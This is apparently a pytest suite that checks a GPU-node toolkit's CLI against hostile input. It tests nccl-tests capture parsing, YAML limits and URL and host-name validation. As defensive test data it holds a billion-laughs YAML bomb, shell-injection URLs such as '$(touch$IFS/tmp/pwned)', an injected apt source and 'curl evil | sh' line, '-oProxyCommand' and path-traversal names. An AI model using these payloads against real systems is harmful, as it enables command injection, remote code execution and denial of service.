"""Hostile input (issue 15): every case class seen by trying gpunode as an attacker would.

Each test here failed before the fix: a wrong verdict, a traceback-free but wrong exit code, a
hang or a flood. Bad input must give gpunode's own error naming the file and the rule (exit 2)
or, for a capture, a result that is not ok with the reason.
"""

from __future__ import annotations

import json
import os
import shutil
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from shared_fixtures import REPO, run_cli

from toolkit.acceptance.nccltests import MAX_LINE_BYTES, parse
from toolkit.acceptance.perf_checks import allreduce_checks
from toolkit.cli.output import emit_json
from toolkit.config import MAX_YAML_DEPTH, load_yaml
from toolkit.errors import ConfigError
from toolkit.inventory import MAX_INVENTORY_HOSTS, load_inventory
from toolkit.names import name_path
from toolkit.profile.hardware import load_stack_file
from toolkit.stack.resolve import repositories

HEADER = """\
# nccl-tests version 2.17.1 nccl-headers=22602 nccl-library=22602
# nThread 1 nGpus 1 minBytes 1048576 maxBytes 268435456 step: 16(factor) warmup iters: 5 iters: 20 agg iters: 1 validation: 1 graph: 0
#
# Using devices
#  Rank  0 Group  0 Pid  10204 on     node-a device  0 [0000:1b:00] NVIDIA H200
#  Rank  1 Group  0 Pid  10205 on     node-a device  1 [0000:43:00] NVIDIA H200
#
#                                                              out-of-place                       in-place
#       size         count      type   redop    root     time   algbw   busbw #wrong     time   algbw   busbw #wrong
#        (B)    (elements)                               (us)  (GB/s)  (GB/s)            (us)  (GB/s)  (GB/s)
"""  # noqa: E501
ROWS = [
    "     1048576        262144     float     sum      -1    30.12   34.81   34.81      0    29.80   35.19   35.19      0",  # noqa: E501
    "    16777216       4194304     float     sum      -1    120.5  139.23  139.23      0    119.9  139.93  139.93      0",  # noqa: E501
    "   268435456      67108864     float     sum      -1   1490.0  180.16  180.16      0   1489.1  180.27  180.27      0",  # noqa: E501
]
FOOTER = "# Out of bounds values : 0 OK\n# Avg bus bandwidth    : 118.26\n#\n"


def capture(rows: list[str] = ROWS, footer: str = FOOTER) -> str:
    return HEADER + "\n".join(rows) + "\n" + footer


def gpunode(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """Run the CLI in-process through its error boundary: (exit code, stdout, stderr)."""
    return run_cli(capsys, *args)


def strict_json(text: str) -> Any:
    """RFC 8259 JSON only: NaN and Infinity are refused."""

    def refuse(constant: str) -> Any:
        raise ValueError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def test_the_healthy_capture_is_ok() -> None:
    result = parse(capture())
    assert result.ok and result.complete and result.problems == ()


# --- wrong verdicts from `accept parse` ----------------------------------------------------------


@pytest.mark.parametrize("wrong", ["nan", "-1", "-inf", "0x1", "inf", "1.5", "٣", "1e"])
def test_a_row_whose_wrong_column_is_not_a_count_is_never_ok(wrong: str) -> None:
    rows = [*ROWS]
    rows[1] = rows[1][: rows[1].rindex("0")] + wrong
    result = parse(capture(rows))
    assert not result.ok
    assert result.problems[0].startswith("unparsed row at line 12: ")
    assert "#wrong" in result.problems[0]


@pytest.mark.parametrize(
    "rows",
    [
        # cut short by a partial write
        [ROWS[0], ROWS[1][:60], ROWS[2]],
        # split across two lines
        [ROWS[0], ROWS[1][:70], ROWS[1][70:], ROWS[2]],
        # time and bandwidth columns that are not finite numbers
        [ROWS[0], ROWS[1].replace("120.5", "nan"), ROWS[2]],
        [ROWS[0], ROWS[1].replace("139.23  139.23", "inf  Infinity"), ROWS[2]],
        [ROWS[0], ROWS[1].replace("120.5", "1e999"), ROWS[2]],
    ],
)
def test_a_corrupt_row_is_never_dropped_silently(rows: list[str]) -> None:
    result = parse(capture(rows))
    assert not result.ok
    assert any(p.startswith("unparsed row at line 12") for p in result.problems)


def test_every_cut_before_the_footer_is_incomplete() -> None:
    text = capture()
    # A cut inside the average's figure cannot be told from a shorter figure; the average is
    # shown, never gated on, and every row and the out-of-bounds verdict were read whole.
    avg_figure = text.index("# Avg bus bandwidth") + len("# Avg bus bandwidth    : ")
    first_row = text.index(ROWS[0])
    for cut in range(first_row + len(ROWS[0]), avg_figure):
        try:
            result = parse(text[:cut])
        except Exception as err:  # only "not an nccl-tests output" may be raised
            assert type(err).__name__ == "NotNcclTestsOutput"
            continue
        assert not result.ok, f"cut at {cut}: {text[:cut][-40:]!r}"
    # Accepting truncated captures accepts a missing footer, never a cut row.
    cut_row = parse(text[: text.index(ROWS[2]) + 50], allow_truncated=True)
    assert cut_row.problems[0].startswith("unparsed row at line 13")
    excerpt = parse(capture(footer=""), allow_truncated=True)
    assert excerpt.ok and not excerpt.complete


@pytest.mark.parametrize(
    "footer",
    [
        "# Out of bounds values : 1 failed\n# Avg bus bandwidth    : 118.26\n",
        "# Out of bounds values : 1 FAILED (see above)\n# Avg bus bandwidth    : 118.26\n",
        "# Out of bounds values : -1 FAILED\n# Avg bus bandwidth    : 118.26\n",
        "# Out of bounds values : 0 OK\n# Avg bus bandwidth    : 118.26 FAILED\n",
        "# Out of bounds values : 0 OK\n# Avg bus bandwidth    : -\n",
        "# Out of bounds values : 0 OK\n# Avg bus bandwidth    : e\n",
        "# Out of bounds values : 0 OK\n# Avg bus bandwidth    : nan\n",
    ],
)
def test_failing_or_unreadable_footers_are_not_ok(footer: str) -> None:
    assert not parse(capture(footer=footer)).ok


def test_nccl_tests_failure_lines_are_not_ok() -> None:
    rows = [ROWS[0], "node-a: Test NCCL failure common.cu:1024 'unhandled cuda error'", *ROWS[1:]]
    result = parse(capture(rows))
    assert not result.ok and "reported a failure at line 12" in result.problems[0]


# Issue 27, class A: one row grammar. A large row with wrong counts, hidden several ways.
BAD_LARGEST = ROWS[2].replace("      0   1489.1", "     17   1489.1")
HEADER_LINES = HEADER.splitlines()


@pytest.mark.parametrize(
    "lines",
    [
        # a row carrying NCCL log text after its numbers
        [*ROWS[:2], BAD_LARGEST + " node1:9448:9448 [0] NCCL INFO Channel 00/0 via P2P/IPC"],
        [*ROWS[:2], ROWS[2][:60] + " 1234 node1:9448:9448 [0] NCCL INFO Channel 00/0 via P2P/IPC"],
        # a row carrying an `NCCL version` fragment
        [*ROWS[:2], BAD_LARGEST + " NCCL version 2.21.5+cuda12.4"],
        # an elided line inside a table: rows are missing
        [ROWS[0], "...", *ROWS[1:]],
        # another tool's line inside a table
        [ROWS[0], "mpirun: Warning: forwarding signal 2", *ROWS[1:]],
    ],
)
def test_a_table_line_that_is_not_a_row_is_never_ok(lines: list[str]) -> None:
    result = parse(capture(lines))
    assert not result.ok
    assert any(p.startswith("unparsed row at line ") for p in result.problems)


def test_a_corrupt_row_after_the_footer_is_not_ok() -> None:
    result = parse(capture(footer=FOOTER + BAD_LARGEST.replace("1490.0", "1490.0.0") + "\n"))
    assert not result.ok
    assert result.problems[0].startswith("unparsed row at line ")
    # Free text after the footer is not in the closed list either; comments and logs are.
    assert not parse(capture(footer=FOOTER + "all done, 17 wrong\n")).ok
    fine = FOOTER + "#\n\nnode-a:1:1 [0] NCCL INFO comm 0x1 rank 0 nranks 2 - Destroy COMPLETE\n"
    assert parse(capture(footer=fine)).ok


def test_a_second_column_header_after_the_footer_is_incomplete() -> None:
    second = "\n".join(HEADER_LINES[-3:]) + "\n"
    result = parse(capture(footer=FOOTER + second))
    assert not result.ok and not result.complete
    assert result.problems[0].startswith("incomplete capture: no footer")


def test_a_corrupt_first_row_without_a_column_header_is_not_ok() -> None:
    text = "\n".join([ROWS[0].replace("30.12", "30..12"), *ROWS[1:]]) + "\n" + FOOTER
    result = parse(text)
    assert not result.ok
    assert result.problems[0].startswith("unparsed row at line 1: ")


def test_sizes_beyond_the_row_grammar_are_not_ok() -> None:
    huge = ROWS[2].replace("   268435456", "99999999999999999999", 1)
    assert not parse(capture([*ROWS[:2], huge])).ok


def test_the_real_captures_nccl_log_lines_are_not_rows() -> None:
    # NCCL's own debug line between the rows (the legacy real capture has one) is skipped.
    log = "hostname:3442:3442 [0] NCCL INFO Launch mode Parallel"
    warn = "node-a:10204:10231 [1] transport/net.cc:1002 NCCL WARN NET/IB : retrying"
    assert parse(capture([ROWS[0], log, ROWS[1], warn, ROWS[2]])).ok
    assert parse(capture([ROWS[0], "NCCL version 2.27.3+cuda12.9", *ROWS[1:]])).ok


def _json_capture(**changes: Any) -> str:
    data = REPO / "tests" / "unit" / "data" / "nccl" / "h200_8gpu_json.json"
    document = json.loads(data.read_text())
    document.update(changes)
    return json.dumps(document)


@pytest.mark.parametrize("errors", [["CUDA failure"], "CUDA failure", [{"rank": 3}]])
def test_json_error_entries_fail_the_result(errors: Any) -> None:
    result = parse(_json_capture(errors=errors))
    assert not result.ok and result.errors


@pytest.mark.parametrize(
    "changes",
    [
        {"out_of_bounds": [1]},
        {"out_of_bounds": {"count": "zero"}},
        {"average_bus_bandwidth": "fast"},
        {"config": {"devices": [{"rank": "x"}], "ngpus": "8"}},
        {"results": [{"size": "1G"}]},
        {"results": [1, 2]},
        {"nccl_version": [22703]},
    ],
)
def test_json_with_wrongly_typed_fields_is_refused_or_not_ok(changes: dict[str, Any]) -> None:
    try:
        result = parse(_json_capture(**changes))
    except Exception as err:
        assert type(err).__name__ == "NotNcclTestsOutput" and err.exit_code == 2  # type: ignore[attr-defined]
        return
    if changes.get("nccl_version"):
        assert result.nccl_version is None
    else:
        assert not result.ok


@pytest.mark.parametrize("size", ["1" + "0" * 400, str(1 << 63), "-1", "1e400", "1.5"])
def test_json_numbers_out_of_range_are_not_ok(
    size: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    document = json.loads(_json_capture())
    document["results"][2]["size"] = "SIZE"
    text = json.dumps(document).replace('"SIZE"', size)
    result = parse(text)
    assert not result.ok and result.problems[0].startswith("unparsed row results[2]")
    path = tmp_path / "huge.json"
    path.write_text(text)
    code, out, _err = gpunode(capsys, "accept", "parse", str(path), "--json")
    assert code == 1 and strict_json(out)["ok"] is False


@pytest.mark.parametrize("okay", [True, False, "True", "yes", "ok", None, 1])
def test_json_okay_is_true_false_or_unchecked_exactly(okay: Any) -> None:
    for section in ("out_of_bounds", "average_bus_bandwidth"):
        document = json.loads(_json_capture())
        if okay is None:
            del document[section]["okay"]
        else:
            document[section]["okay"] = okay
        result = parse(json.dumps(document))
        assert not result.ok and f"{section}.okay is " in result.problems[0]


def test_json_with_non_finite_numbers_is_not_ok() -> None:
    text = _json_capture().replace('"time": 4253.0', '"time": NaN', 1)
    with pytest.raises(Exception, match="non-finite number NaN"):
        parse(text)
    text = _json_capture().replace('"bus_bw": 441.81', '"bus_bw": "nan"', 1)
    assert not parse(text).ok


def test_the_acceptance_verdict_fails_on_a_corrupt_row() -> None:
    rows = [ROWS[0], ROWS[1].replace("      0    119.9", "    nan    119.9"), ROWS[2]]
    section = {"engine": "nccl-tests", "raw_output": capture(rows), "error": None}
    (check,) = allreduce_checks(section, [])
    assert check.name == "allreduce.run" and not check.ok
    assert "unparsed row at line 12" in check.message


# --- issue 41, class 6: a validated row that was not, a row behind '#' --------------------------


def _na(row: str, placement: str) -> str:
    """The row with `#wrong` of one placement (or both) printed as N/A."""
    tokens = row.split()
    for column in {"out": (8,), "in": (12,), "both": (8, 12)}[placement]:
        tokens[column] = "N/A"
    return "  ".join(tokens)


@pytest.mark.parametrize("placement", ["out", "in", "both"])
def test_an_unvalidated_row_in_a_validated_capture_is_not_ok(
    placement: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = capture([ROWS[0], _na(ROWS[1], placement), ROWS[2]])
    result = parse(text)
    assert not result.ok
    assert result.problems[0].startswith("unvalidated row at line 12: #wrong is N/A")
    path = tmp_path / "na.txt"
    path.write_text(text)
    code, out, _err = gpunode(capsys, "accept", "parse", str(path))
    assert code == 1 and "not ok: unvalidated row at line 12" in out
    # The same capture from a run without validation is consistent (and says it is unvalidated).
    off = parse(
        capture([_na(row, "both") for row in ROWS]).replace("validation: 1", "validation: 0")
    )
    assert off.ok and not off.validated


def test_a_counted_row_in_an_unvalidated_capture_is_not_ok() -> None:
    result = parse(capture().replace("validation: 1", "validation: 0"))
    assert not result.ok
    assert result.problems[0].startswith("row at line 11 reports #wrong although the run says")


def test_an_unvalidated_row_in_a_validated_legacy_capture_is_not_ok() -> None:
    legacy = [" ".join(row.split()[:4] + row.split()[5:]) for row in ROWS]
    legacy = [row.replace(" 0 ", " 2e-07 ").removesuffix(" 0") + " 2e-07" for row in legacy]
    header = HEADER.replace("    root", "")
    text = header + "\n".join([legacy[0], legacy[1].replace("2e-07", "N/A", 1), legacy[2]])
    result = parse(text + "\n" + FOOTER)
    assert not result.ok and result.layout == "legacy"
    assert result.problems[0].startswith("unvalidated row at line 12")
    assert parse(header + "\n".join(legacy) + "\n" + FOOTER).ok


def test_an_unvalidated_json_row_in_a_validated_document_is_not_ok() -> None:
    document = json.loads(_json_capture())
    document["results"][1]["in_place"]["nwrong"] = None
    result = parse(json.dumps(document))
    assert not result.ok
    assert result.problems[0].startswith("unvalidated row at results[1]")
    document["config"]["validation"] = 0
    assert not parse(json.dumps(document)).ok  # results[0] and [2] are counted
    for item in document["results"]:
        item["out_of_place"]["nwrong"] = item["in_place"]["nwrong"] = None
    assert parse(json.dumps(document)).ok


@pytest.mark.parametrize(
    "mark",
    ["# x", "#\r", "#", "#:", "# x\r", "#\t", "#!", "# 1", "#\r\r", "#wrong"],
)
@pytest.mark.parametrize("whole", [True, False])
def test_a_row_behind_any_hash_inside_the_table_is_not_ok(
    mark: str, whole: bool, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A row whose size column became `#` and anything (`# x`, `#` then a carriage return),
    or whose whole text became that: nccl-tests prints no `#` line between its rows."""
    row = mark if whole else mark + ROWS[1].lstrip().removeprefix("16777216")
    text = capture([ROWS[0], row, ROWS[2]])
    result = parse(text)
    assert not result.ok and len(result.rows) == 2
    assert "line 12" in result.problems[0]
    path = tmp_path / "hash.txt"
    path.write_bytes(text.encode())
    code, out, _err = gpunode(capsys, "accept", "parse", str(path))
    assert code == 1 and "not ok: " in out and "line 12" in out


@pytest.mark.parametrize(
    "line",
    [
        "#        (B)    (elements)                               (us)  (GB/s)  (GB/s)",
        "# Using devices",
        "#  Rank  2 Group  0 Pid  10206 on     node-a device  2 [0000:44:00] NVIDIA H200",
        HEADER_LINES[1],  # the run's parameters
        "# Collective test concluded: all_reduce_perf",
    ],
)
def test_a_header_line_between_the_rows_is_not_ok(line: str) -> None:
    """The lines nccl-tests prints before a table or after its footer are no row, but between
    the rows they mean the table is not one run's (the units line: only after the header)."""
    result = parse(capture([ROWS[0], line, *ROWS[1:]]))
    assert not result.ok
    assert result.problems[0].startswith("line 12 inside the result table is a '#' line")
    assert len(result.devices) == 2


def test_a_table_cut_short_by_a_new_run_is_not_ok() -> None:
    result = parse(HEADER + ROWS[0] + "\n" + capture())
    assert not result.ok
    assert result.problems[0].startswith("line 12 inside the result table is a '#' line")


# --- strict JSON, and one document on failure ----------------------------------------------------


def test_json_output_never_carries_nan_or_infinity(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    emit_json({"a": float("nan"), "b": [float("inf"), -float("inf"), 1.5]})
    assert strict_json(capsys.readouterr().out) == {"a": None, "b": [None, None, 1.5]}
    path = tmp_path / "nan.txt"
    path.write_text(capture([ROWS[0], ROWS[1].replace("139.23  139.23", "nan nan"), ROWS[2]]))
    code, out, _err = gpunode(capsys, "accept", "parse", str(path), "--json")
    assert code == 1
    assert strict_json(out)["ok"] is False


@pytest.mark.parametrize(
    ("args", "code", "kind"),
    [
        (["stack", "check", "{tmp}/missing.yml", "--json"], 2, "BadParameter"),
        (["accept", "parse", "{tmp}/missing.txt", "--json"], 2, "ConfigError"),
        (["accept", "parse", "{tmp}/not-nccl.txt", "--json"], 2, "NotNcclTestsOutput"),
        (["stack", "check", "--json", "--no-such-option"], 2, "NoSuchOption"),
        (["status", "--json"], 2, "MissingParameter"),
    ],
)
def test_a_failing_command_prints_one_error_document(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], args: list[str], code: int, kind: str
) -> None:
    (tmp_path / "not-nccl.txt").write_text("hello\n")
    got, out, _err = gpunode(capsys, *[a.replace("{tmp}", str(tmp_path)) for a in args])
    assert got == code
    document = strict_json(out)
    assert document["ok"] is False
    assert document["error"]["kind"] == kind and document["error"]["exit_code"] == code
    assert document["error"]["message"]


# --- resource exhaustion -------------------------------------------------------------------------

BILLION_LAUGHS = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (BILLION_LAUGHS, "aliases expanded"),
        ("a: " + "[" * 5000 + "]" * 5000 + "\n", f"nested deeper than {MAX_YAML_DEPTH}"),
        ("a: " + "{b: " * 2000 + "1" + "}" * 2000 + "\n", f"nested deeper than {MAX_YAML_DEPTH}"),
        ("a: &x [1, *x]\n", "recursive alias"),
        ("a: &x {b: *x}\n", "recursive alias"),
        ("stack: {}\nhardware: {}\nstack: {}\n", "duplicate key 'stack' (lines 1 and 3)"),
    ],
)
def test_hostile_yaml_is_refused_quickly_naming_the_file(
    tmp_path: Path, text: str, expected: str
) -> None:
    path = tmp_path / "stack.yml"
    path.write_text(text)
    start = time.monotonic()
    with pytest.raises(ConfigError) as info:
        load_stack_file(path)
    assert time.monotonic() - start < 5
    assert str(path) in info.value.message and expected in info.value.message
    assert info.value.exit_code == 2


def test_a_large_yaml_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "big.yml"
    path.write_text("a: " + "x" * (5 * 1024 * 1024) + "\n")
    with pytest.raises(ConfigError, match="larger than"):
        load_yaml(path)


def test_merge_keys_may_still_override(tmp_path: Path) -> None:
    path = tmp_path / "merge.yml"
    path.write_text("base: &b {x: 1, y: 2}\nitem:\n  <<: *b\n  x: 3\n")
    assert load_yaml(path) == {"base": {"x": 1, "y": 2}, "item": {"x": 3, "y": 2}}


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "directory"])
def test_non_regular_files_are_refused_without_blocking(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    if kind == "fifo":
        path = tmp_path / "stack.yml"
        os.mkfifo(path)
    elif kind == "directory":
        path = tmp_path / "dir.yml"
        path.mkdir()
    else:
        path = Path("/dev/zero")
    start = time.monotonic()
    with pytest.raises(ConfigError) as info:
        load_stack_file(path)
    assert str(path) in info.value.message
    code, _out, err = gpunode(capsys, "accept", "parse", str(path))
    assert code == 2 and str(path) in err
    assert time.monotonic() - start < 5


@pytest.mark.parametrize("pattern", ["n[0:99][0:99][0:99]", "n[0:99999999]", "n[a:z][0:999]"])
def test_huge_host_ranges_fail_naming_the_limit(tmp_path: Path, pattern: str) -> None:
    (tmp_path / "hosts.yml").write_text(f"all:\n  hosts:\n    {pattern}:\n")
    with pytest.raises(ConfigError) as info:
        load_inventory(tmp_path)
    assert f"past {MAX_INVENTORY_HOSTS} hosts" in info.value.message
    assert str(tmp_path / "hosts.yml") in info.value.message


def test_a_capture_line_without_end_is_cut(tmp_path: Path) -> None:
    rows = [ROWS[0], "1" * (2 * MAX_LINE_BYTES), *ROWS[1:]]
    result = parse(capture(rows))
    assert not result.ok and "line too long" in result.problems[0]
    assert len(result.problems[0]) < 400


def test_a_size_measured_again_is_one_row_judged_by_its_worst_run() -> None:
    again = ROWS[2].replace("180.16  180.16      0", "100.00  100.00      5")
    result = parse(capture([*ROWS, *ROWS, again]))
    assert len(result.rows) == 3
    assert result.busbw_at_largest_gbps == 100.0 and result.wrong_total == 5
    assert not result.ok


# --- internal errors where exit 2 belongs --------------------------------------------------------

STACK = """\
stack:
  driver: {{version: "{driver}", flavour: open}}
  cuda: "{cuda}"
  nccl: "2.26.2-1+cuda12.8"
  container_toolkit: "1.17.8"
hardware:
  gpu: {{model: H100, count: 8, nvswitch: true}}
{extra}"""


def _stack(
    tmp_path: Path, driver: str = "580.95.05", cuda: str = "12.8.1", extra: str = ""
) -> Path:
    path = tmp_path / "stack.yml"
    text = STACK.format(driver=driver.replace("\n", "\\n"), cuda=cuda, extra=extra)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"cuda": "9" * 5000 + ".1"}, "stack.cuda: not a version"),
        ({"extra": '  data_disks: {disks: [{serial: S1, size: "' + "9" * 400 + '"}]}\n'}, "size"),
        ({"driver": "５８０.９５.０５"}, "stack.driver.version: not a version"),
        ({"driver": "٥٨٠.٩٥.٠٥"}, "stack.driver.version: not a version"),
        ({"driver": "580.95.05\n"}, "stack.driver.version: not a version"),
    ],
)
def test_bad_values_exit_2_naming_file_and_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fields: dict[str, str], expected: str
) -> None:
    path = _stack(tmp_path, **fields)
    code, _out, err = gpunode(capsys, "stack", "check", str(path))
    assert code == 2, err
    assert str(path) in err and expected in err
    assert len(err) < 2000  # the value is echoed cut short, never whole


# --- values that should never pass ---------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://mirror.example/cuda/\n",
        "https://mirror.example/cuda/\ndeb [trusted=yes] http://evil.example/ /",
        "https://mirror.example/cu da/",
        "https://mirror.example/cuda/\x1b[2J",
        "https://mirror.example/\u2028cuda/",
        "https://",
        "ftp://mirror.example/cuda/",
        # issue 27: what a shell or an apt sources line reads
        "https://mirror.example/cuda/$(touch$IFS/tmp/pwned)/",
        "https://mirror.example/cuda/`touch /tmp/pwned`/",
        "https://mirror.example/cuda/#/",
        "https://mirror.example/cuda/;touch/",
        "https://mirror.example/cuda/&&touch/",
        "https://mirror.example/cuda/${IFS}/",
    ],
)
def test_repository_urls_are_validated(url: str) -> None:
    with pytest.raises(ConfigError, match="gpunode_nvidia_repo_url"):
        repositories("ubuntu2404", "x86_64", {"gpunode_nvidia_repo_url": url})


@pytest.mark.parametrize(
    "host", ["../../../elsewhere", "a/b", ".hidden", "-oProxyCommand=x", "node1\n", "x" * 300]
)
def test_inventory_host_names_follow_the_rules(tmp_path: Path, host: str) -> None:
    (tmp_path / "hosts.yml").write_text(f"all:\n  hosts:\n    {json.dumps(host)}:\n")
    with pytest.raises(ConfigError) as info:
        load_inventory(tmp_path)
    assert "not a valid host name" in info.value.message
    assert len(info.value.message) < 500


def test_host_names_never_leave_their_folder(tmp_path: Path) -> None:
    assert name_path(tmp_path, "node-01", ".result.json") == tmp_path / "node-01.result.json"
    with pytest.raises(ConfigError, match="not a valid host name"):
        name_path(tmp_path, "../../elsewhere", ".result.json")


def test_accept_new_is_refused_with_how_to_add_the_key(tmp_path: Path) -> None:
    (tmp_path / "hosts.yml").write_text(
        "all:\n  hosts:\n    n1:\n      ansible_ssh_common_args: "
        "'-o StrictHostKeyChecking=accept-new'\n"
    )
    with pytest.raises(ConfigError) as info:
        load_inventory(tmp_path)
    message = info.value.message
    assert "StrictHostKeyChecking=accept-new" in message
    assert "ssh-keyscan" in message and "known_hosts" in message
    assert "StrictHostKeyChecking=yes" in message


# --- messages ------------------------------------------------------------------------------------


def test_accept_parse_errors_name_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "capture.txt"
    path.write_text("no rows here\n")
    code, _out, err = gpunode(capsys, "accept", "parse", str(path))
    assert code == 2
    assert f"{path}: not an nccl-tests output" in err
    path.write_text('{"results": 3}')
    code, _out, err = gpunode(capsys, "accept", "parse", str(path))
    assert code == 2 and f"{path}: not an nccl-tests JSON document" in err


def test_a_huge_value_is_echoed_cut_short(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _stack(tmp_path, driver="5" * 1_000_000)
    code, _out, err = gpunode(capsys, "stack", "check", str(path))
    assert code == 2 and "stack.driver.version" in err
    assert len(err) < 2000


def test_pip_source_urls_follow_the_url_rule() -> None:
    from toolkit.images.recipe import _url_var

    values = {"gpunode_pip_index_url": "https://pypi.example/simple\nRUN curl evil | sh"}
    with pytest.raises(ConfigError, match="gpunode_pip_index_url"):
        _url_var(values, "gpunode_pip_index_url", "group_vars/all")
    ok = {"gpunode_pip_index_url": "https://pypi.example/simple"}
    assert _url_var(ok, "gpunode_pip_index_url", "x") == "https://pypi.example/simple"


# --- issue 27: host key checking and image variables, through the CLI ----------------------------


def _sample(tmp_path: Path, repo_root: Path, **image_vars: Any) -> Path:
    target = tmp_path / "inventory"
    shutil.copytree(repo_root / "inventories" / "sample", target)
    # Read after the sample's own group_vars/all files (sorted by name), so these win.
    (target / "group_vars" / "all" / "zz-test.yml").write_text(yaml.safe_dump(image_vars))
    return target


@pytest.mark.parametrize(
    "url",
    [
        "https://mirror.example/cuda/$(touch$IFS/tmp/pwned)/",
        "https://mirror.example/cuda/`touch /tmp/pwned`/",
        "https://mirror.example/cuda/#",
    ],
)
def test_image_build_refuses_a_repository_url_a_shell_would_read(
    tmp_path: Path, repo_root: Path, capsys: pytest.CaptureFixture[str], url: str
) -> None:
    inventory = _sample(
        tmp_path,
        repo_root,
        gpunode_nvidia_repo_url=url,
        gpunode_image_base="sha256:" + "a" * 64,
    )
    code, _out, err = gpunode(capsys, "image", "build", "-i", str(inventory), "-g", "h100_sxm")
    assert code == 2, err
    assert "gpunode_nvidia_repo_url" in err and "$ ` ( ) ; & ! * #" in err


def test_image_build_reads_allow_tag_base_as_a_boolean(
    tmp_path: Path, repo_root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tag = "nvcr.io/nvidia/cuda:12.4.1-runtime-ubuntu22.04"
    for text in ("false", "no", "0", "off"):
        inventory = _sample(
            tmp_path / text, repo_root, gpunode_image_allow_tag_base=text, gpunode_image_base=tag
        )
        code, _out, err = gpunode(capsys, "image", "verify", "-i", str(inventory), "-g", "h100_sxm")
        assert code == 2 and "not pinned by digest" in err, (text, err)
    inventory = _sample(
        tmp_path / "maybe", repo_root, gpunode_image_allow_tag_base="maybe", gpunode_image_base=tag
    )
    code, _out, err = gpunode(capsys, "image", "verify", "-i", str(inventory), "-g", "h100_sxm")
    assert code == 2 and "gpunode_image_allow_tag_base is 'maybe', not a boolean" in err


def test_a_host_range_of_a_number_and_a_letter_exits_2_naming_the_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "hosts.yml").write_text(
        "all:\n  children:\n    gpus:\n      hosts:\n        n[0:z]:\n"
    )
    code, _out, err = gpunode(capsys, "image", "build", "-i", str(tmp_path))
    assert code == 2, err
    assert "gpus.hosts" in err and "bad host range 'n[0:z]'" in err
